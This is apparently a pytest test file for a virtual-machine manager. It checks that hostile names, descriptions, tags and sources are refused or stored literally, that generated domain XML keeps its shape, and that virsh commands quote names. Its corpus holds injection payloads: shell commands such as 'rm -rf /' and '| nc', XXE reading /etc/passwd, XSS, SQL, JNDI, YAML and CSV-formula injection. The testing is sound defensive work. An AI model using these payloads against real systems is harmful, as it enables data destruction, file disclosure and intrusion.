"""S15: whatever is typed as a name or a text is refused, or stored as it is and nothing else."""

from uuid import uuid4

import pytest

from accounts.access import ActionRefused
from accounts.models import User
from hosts.models import Network
from tests.factories import make_host, make_vm
from virt.specs import DomainSpec
from virt.xml import build, read
from virt.xml.document import parse
from vms.models import VM
from vms.operations.target import virsh
from vms.services.create import CreateRequest, request_create
from vms.services.labels import set_description, set_tags
from vms.services.lifecycle import request_rename

CORPUS = [
    "</name><devices><hostdev/></devices><name>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "]]><x/><![CDATA[",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "$(reboot)",
    "`id`",
    "; rm -rf / #",
    "| nc 10.0.0.1 1",
    "-oProxyCommand=reboot",
    "--all",
    "../../etc/passwd",
    "..",
    ".",
    "a/b",
    "a\\b",
    "&amp;&lt;",
    "%s%n%d",
    "{{7*7}}",
    "{% load x %}",
    "${jndi:ldap://x}",
    "a: b\n- c: !!python/object/apply:os.system ['id']",
    "#cloud-config\nruncmd: [reboot]",
    "name\nhost: evil",
    "a\r\nSet-Cookie: x=y",
    "\u202egnp.exe",
    "\u2066a\u2069",
    "a\u200bb",
    "\ufeffweb",
    "wеb01",  # a Cyrillic letter
    "ＷＥＢ",
    "🏠",
    "'; DROP TABLE vms_vm; --",
    "' OR '1'='1",
    "=cmd|' /C calc'!A0",
    "con",
    "NUL\x00byte",
    "\x1b[31mred",
    "\x7f",
    "\ud800",
    " leading",
    "trailing ",
    "",
    " ",
    "x" * 64,
    "x" * 1_000_000,
]
PLAIN = {"con"}


@pytest.fixture
def somewhere(db: None) -> None:
    """A host that can take machines."""
    host = make_host()
    Network.objects.create(host=host, uuid=uuid4(), name="default", mode="nat", active=True)


@pytest.mark.parametrize("name", CORPUS, ids=range(len(CORPUS)))
def test_hostile_machine_name_is_a_field_error(somewhere: None, oli: User, name: str) -> None:
    vm = make_vm("web01", owner=oli, state="off")
    asks = [
        lambda: request_create(CreateRequest(name, "network"), oli),
        lambda: request_rename(vm, name, oli),
    ]
    for ask in asks[: 1 if name in PLAIN else 2]:
        if name in PLAIN:
            ask()
            continue
        with pytest.raises(ActionRefused) as caught:
            ask()
        assert caught.value.status == 400
        assert "name" in caught.value.extra["fields"]


@pytest.mark.parametrize("text", CORPUS, ids=range(len(CORPUS)))
def test_hostile_text_is_stored_as_it_is_or_refused(oli: User, text: str) -> None:
    vm = make_vm("web01", owner=oli)
    try:
        set_description(vm, text, oli)
    except ActionRefused as error:
        assert error.status == 400
        assert VM.objects.get().description == ""
    else:
        assert VM.objects.get().description == text.replace("\r\n", "\n").strip()
    try:
        kept = set_tags(vm, [text], oli)
    except ActionRefused as error:
        assert error.status == 400
    else:
        assert kept == [" ".join(text.split())]


@pytest.mark.parametrize("source", ["image:", "iso:", "iso:default/", "", "bridge:"])
@pytest.mark.parametrize("text", CORPUS[:30], ids=range(30))
def test_hostile_source_is_refused(somewhere: None, oli: User, source: str, text: str) -> None:
    with pytest.raises(ActionRefused) as caught:
        request_create(CreateRequest("web01", source + text), oli)
    assert caught.value.status in {400, 422}
    assert not VM.objects.exists()


@pytest.mark.parametrize("name", CORPUS, ids=range(len(CORPUS)))
def test_definition_keeps_its_shape_whatever_the_texts_are(name: str) -> None:
    """Foreign guests have such names; a definition is still built as data, not as text."""

    def shape(text: str) -> list[str]:
        spec = DomainSpec(
            text, "5f0c6a52-6f0d-4dd4-8a3a-2f7e2a6d3f11", 1, 1 << 28, description=text or "-"
        )
        xml = build.domain(spec)
        assert read.domain(xml).uuid == spec.uuid
        return [str(element.tag) for element in parse(xml).iter()]

    # A document of more than 1 MiB is not read at all.
    assert shape(name[:100_000]) == shape("web01")


def test_command_for_people_quotes_any_name() -> None:
    assert virsh("start", "web01") == "virsh start web01"
    assert virsh("shutdown", "web01", flags=["--mode", "acpi"]) == (
        "virsh shutdown web01 --mode acpi"
    )
    assert virsh("start", "$(reboot)") == "virsh start '$(reboot)'"
    assert virsh("start", "-rf", flags=["--paused"]) == "virsh start --paused -- -rf"
